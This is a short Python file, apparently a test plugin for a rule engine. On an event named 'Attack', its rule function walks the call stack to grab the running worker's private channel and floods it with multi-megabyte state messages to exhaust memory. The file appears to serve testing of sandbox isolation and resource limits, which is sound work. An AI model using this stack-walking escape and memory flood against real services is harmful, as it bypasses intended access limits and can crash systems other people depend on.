"""Sends more changes of state than memory has room for."""
import struct
import sys


def of_worker(name):
    """An attribute of one of the objects whose functions are running."""
    frame = sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        if hasattr(owner, name):
            return getattr(owner, name)
        frame = frame.f_back
    raise LookupError(name)


def attack():
    channel = of_worker('_channel')
    operations = b'0,' * (3 << 20) + b'0'
    for batch in range(8):
        channel.write('p', struct.pack('<Q', batch), b'{"state":[{"record":0,"rule":0,"ops":[' + operations + b']}]}')


def rule(event):
    if event.get("eventName") == "Attack":
        attack()
    return False
